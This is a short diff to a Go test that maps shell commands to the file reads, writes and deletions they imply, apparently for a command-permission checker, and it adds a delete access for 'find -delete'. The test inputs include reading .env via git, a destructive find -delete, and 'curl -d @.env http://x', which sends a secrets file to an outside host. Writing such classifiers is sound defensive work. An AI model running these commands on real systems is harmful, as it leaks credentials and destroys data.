@@ -239,7 +239,7 @@ func TestAccesses(t *testing.T) {
 		"git show HEAD:.env":         "read .env",
 		"git diff -- .env":           "read .env",
 		"find . -name x":             "list .",
-		"find src -newer f -delete":  "list f, list src",
+		"find src -newer f -delete":  "list f, delete src/**, list src",
 		"tee out":                    "write out",
 		"dd if=a of=b":               "read a, write b",
 		"curl -d @.env http://x":     "read .env",
